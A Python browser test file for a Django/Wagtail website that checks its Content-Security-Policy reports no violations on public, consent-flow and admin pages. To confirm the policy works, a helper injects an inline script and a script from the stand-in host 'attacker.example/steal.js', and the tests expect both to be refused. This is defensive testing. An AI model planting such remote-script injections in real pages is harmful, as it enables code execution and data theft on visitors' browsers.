"""The Content-Security-Policy breaks nothing: Chromium reports no violation and no
console error on any kind of public page, in Thai and English, on the consent
flow that brings in a video, or on the admin screens editors use.

Every frame listens for `securitypolicyviolation` from its first script on, and
the console is watched too (Chromium logs a refusal there as well). Requests to
other hosts are answered here with an empty page, so nothing leaves the machine
while the policy is still what decides whether a frame may load.
"""

from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from django.urls import reverse
from playwright.sync_api import expect
from wagtail.models import Locale, Page
from wagtail_localize.models import Translation, TranslationSource

from tests import factories
from tests.test_story_admin import make_submission

from .test_reader_journeys import Manifest

VIOLATION_LISTENER = """
window.policyViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
    window.policyViolations.push(
        `${event.effectiveDirective} refused ${event.blockedURI || "inline code"}`
        + ` (${event.sourceFile || document.location.href}:${event.lineNumber})`
    );
});
"""

PUBLIC_TYPES = (
    "home.HomePage",
    "articles.ArticleIndexPage",
    "articles.EventIndexPage",
    "articles.EbookIndexPage",
    "network.PartnerIndexPage",
    "articles.ArticlePage",
    "articles.EventSummaryPage",
    "articles.EbookPage",
    "core.InformationPage",
    "network.PartnerOrganisation",
    "network.StoryFormPage",
)
SEARCH_WORD = {"th": "ภาคี", "en": "partner"}


def path_of(url):
    return urlsplit(url).path


class Watcher:
    """What the tab's console and its frames' listeners reported."""

    def __init__(self, page, origin):
        self.page = page
        self.console = []
        self.missing_page = None
        page.add_init_script(VIOLATION_LISTENER)
        page.on("console", self.record_console)
        page.on("pageerror", lambda error: self.console.append(f"uncaught: {error}"))

        def answer_other_hosts(route):
            if urlsplit(route.request.url).netloc == origin:
                route.continue_()
            else:
                route.fulfill(status=200, content_type="text/html", body="<!DOCTYPE html>")

        page.context.route("**/*", answer_other_hosts)

    def record_console(self, message):
        if message.type != "error":
            return
        # A page that is meant to be missing reports its own 404 as an error.
        url = message.location.get("url", "")
        if self.missing_page and path_of(url) == self.missing_page:
            return
        self.console.append(f"{message.text} ({url})")

    def problems(self):
        """Violations in every frame and console errors, since the last call."""
        found = list(self.console)
        self.console.clear()
        for frame in self.page.frames:
            try:
                found += frame.evaluate("window.policyViolations.splice(0)")
            except Exception as error:  # a frame that has gone or cannot run the listener
                if "policyViolations" in str(error):
                    found.append(f"no listener in frame {frame.url}")
        return found

    def visit(self, base_url, path, expect_status=200):
        self.missing_page = path_of(path) if expect_status == 404 else None
        response = self.page.goto(base_url + path)
        assert response is not None and response.status == expect_status, (path, response.status)
        self.page.wait_for_load_state("load")
        return self.problems()


INJECT_SCRIPT = """async (inline) => {
    const script = document.createElement("script");
    if (inline) {
        script.textContent = "window.injectedScriptRan = true;";
        document.body.append(script);
        return Boolean(window.injectedScriptRan);
    }
    const ran = new Promise((resolve) => {
        script.onload = () => resolve(true);
        script.onerror = () => resolve(false);
    });
    script.src = "https://attacker.example/steal.js";
    document.body.append(script);
    return ran;
}"""


def injected_scripts_that_ran(watcher, kinds):
    """What an attacker's script slipped into the page did: run, or get refused."""
    ran = [kind for kind in kinds if watcher.page.evaluate(INJECT_SCRIPT, kind == "inline")]
    watcher.problems()  # the refusals just caused are the policy working
    return ran


def assert_clean(problems_by_page):
    dirty = {page: problems for page, problems in problems_by_page.items() if problems}
    assert not dirty, f"policy violations or console errors: {dirty}"


# --- public pages of the served demo site (production settings) --------------------


@pytest.fixture
def public_paths(served_site):
    demo = Manifest(served_site.pages)
    paths = {}
    for language in ("th", "en"):
        for kind in PUBLIC_TYPES:
            found = demo.live(kind, language)
            assert found, f"the demo content has no {kind} in {language}"
            paths[f"{kind} ({language})"] = path_of(found[0]["url"])
        prefix = "" if language == "th" else "/en"
        paths[f"search with results ({language})"] = f"{prefix}/search/?q={SEARCH_WORD[language]}"
        paths[f"cookie consent page ({language})"] = f"{prefix}/cookie-consent/"
    return paths


@pytest.mark.browser
@pytest.mark.xdist_group("served-site")
@pytest.mark.parametrize("missing", [False, True], ids=["every page type", "missing page"])
def test_public_pages_report_no_violation(phone, served_site, public_paths, missing):
    watcher = Watcher(phone, urlsplit(served_site.base_url).netloc)
    if missing:
        problems = {}
        for path in ("/no-such-page/", "/en/no-such-page/"):
            problems[path] = watcher.visit(served_site.base_url, path, expect_status=404)
            ran = injected_scripts_that_ran(watcher, ["inline", "from another host"])
            assert not ran, f"an injected script ({ran}) ran on {path}"
    else:
        problems = {}
        for name, path in public_paths.items():
            problems[name] = watcher.visit(served_site.base_url, path)
            ran = injected_scripts_that_ran(watcher, ["inline", "from another host"])
            assert not ran, f"an injected script ({ran}) ran on {name}"
        # The page's inline script really ran: its hash let it through.
        expect(phone.locator("html")).to_have_class("js")
    assert_clean(problems)


# --- the consent flow, with a video from YouTube --------------------------------------


@pytest.fixture
def consent_data(transactional_db, live_server, site_tree):
    article, _embed = factories.article_with_video(site_tree["articles"])
    factories.use_as_notices(
        cookie_notice=factories.InformationPageFactory(
            parent=site_tree["home"], slug="cookie-notice"
        )
    )
    return SimpleNamespace(article=path_of(article.url))


@pytest.fixture
def site_url(request):
    if "served_site" in request.fixturenames:
        return request.getfixturevalue("served_site").base_url
    return request.getfixturevalue("live_server").url


@pytest.fixture
def browser_data(request):
    """The database work of the test, before the browser starts (see conftest)."""
    for name in ("consent_data", "admin_data"):
        if name in request.fixturenames:
            return request.getfixturevalue(name)
    return None


@pytest.mark.browser
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_consent_flow_loads_the_video_without_violation(phone, live_server, consent_data):
    watcher = Watcher(phone, urlsplit(live_server.url).netloc)
    problems = {"article before consent": watcher.visit(live_server.url, consent_data.article)}
    assert not injected_scripts_that_ran(watcher, ["inline", "from another host"])
    expect(phone.locator("iframe")).to_have_count(0)

    phone.locator('#consent button[value="all"]').click()
    expect(phone.locator("#consent")).to_be_hidden()
    frame = phone.locator(".embed iframe")
    expect(frame).to_have_count(1)
    phone.wait_for_load_state("load")
    problems["video brought in after consent"] = watcher.problems()

    problems["article reloaded with consent"] = watcher.visit(live_server.url, consent_data.article)
    expect(phone.locator(".embed iframe")).to_have_count(1)
    assert_clean(problems)


# --- the admin, signed in as a superuser ----------------------------------------------


@pytest.fixture
def admin_data(transactional_db, live_server, site_tree, django_user_model):
    django_user_model.objects.create_superuser("editor", "editor@example.org", "pw-for-editor")
    article = factories.ArticlePageFactory(
        parent=site_tree["articles"],
        body=[
            {"type": "paragraph", "value": "<p>มูลนิธิทำงานกับภาคีหลายระดับ</p>"},
            {"type": "embed", "value": factories.EmbedFactory().url},
        ],
    )
    event = factories.EventSummaryPageFactory(parent=site_tree["events"])
    ebook = factories.EbookPageFactory(parent=site_tree["ebooks"])
    image = factories.PhotoFactory()
    document = factories.EbookDocumentFactory()
    partner = factories.PartnerFactory()
    story_form = factories.StoryFormPageFactory(parent=site_tree["home"])
    submission = make_submission({"form": story_form})
    english = Locale.objects.get(language_code="en")
    factories.translate_page(site_tree["articles"], english)
    source, _created = TranslationSource.get_or_create_from_instance(article)
    Translation.objects.create(source=source, target_locale=english).save_target(publish=True)
    translated = article.get_translation(english)
    home = Page.objects.get(pk=site_tree["home"].pk)
    return SimpleNamespace(
        screens={
            "dashboard": "/admin/",
            "page explorer": f"/admin/pages/{home.pk}/",
            "article edit (StreamField)": f"/admin/pages/{article.pk}/edit/",
            "event summary edit": f"/admin/pages/{event.pk}/edit/",
            "e-book edit": f"/admin/pages/{ebook.pk}/edit/",
            "draft view": f"/admin/pages/{article.pk}/view_draft/",
            "image library": "/admin/images/",
            "image edit": f"/admin/images/{image.pk}/",
            "image upload": "/admin/images/multiple/add/",
            "document library": "/admin/documents/",
            "document edit": f"/admin/documents/edit/{document.pk}/",
            "snippets": "/admin/snippets/",
            "partner list": "/admin/snippets/network/partnerorganisation/",
            "partner edit": f"/admin/snippets/network/partnerorganisation/edit/{partner.pk}/",
            "site identity settings": "/admin/settings/core/siteidentity/",
            "privacy settings": "/admin/settings/privacy/privacysettings/",
            "Thai language settings": "/admin/settings/thai/thailanguagesettings/",
            "story submissions": reverse("story_submissions:index"),
            "story inspect": reverse("story_submissions:inspect", args=[submission.pk]),
            "story rejection": reverse("story_submissions:reject", args=[submission.pk]),
            "reader searches report": "/admin/reports/reader-searches/",
            "users": "/admin/users/",
            "locales": "/admin/locales/",
            "submit for translation": f"/admin/localize/submit/page/{article.pk}/",
            "translation editor": f"/admin/pages/{translated.pk}/edit/",
        },
        article_edit=f"/admin/pages/{article.pk}/edit/",
    )


@pytest.mark.browser
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_admin_screens_report_no_violation(phone, live_server, admin_data):
    watcher = Watcher(phone, urlsplit(live_server.url).netloc)
    phone.set_viewport_size({"width": 1280, "height": 900})
    problems = {"login": watcher.visit(live_server.url, "/admin/login/")}
    phone.fill('input[name="username"]', "editor")
    phone.fill('input[name="password"]', "pw-for-editor")
    phone.locator('button[type="submit"]').click()
    phone.wait_for_url(lambda url: path_of(url) == "/admin/")
    problems["signing in"] = watcher.problems()

    for name, path in admin_data.screens.items():
        problems[name] = watcher.visit(live_server.url, path)
        # Wagtail's own inline scripts must run here, but nothing from another host.
        ran = injected_scripts_that_ran(watcher, ["from another host"])
        assert not ran, f"a script from another host ran on the admin's {name}"

    # The live preview beside the editor: the page, in a frame of the admin.
    watcher.visit(live_server.url, admin_data.article_edit)
    phone.locator('[data-side-panel-toggle="preview"]').first.click()
    preview = phone.frame_locator("#w-preview-iframe").last
    expect(preview.locator("main h1")).to_be_visible()
    problems["live preview"] = watcher.problems()
    assert_clean(problems)
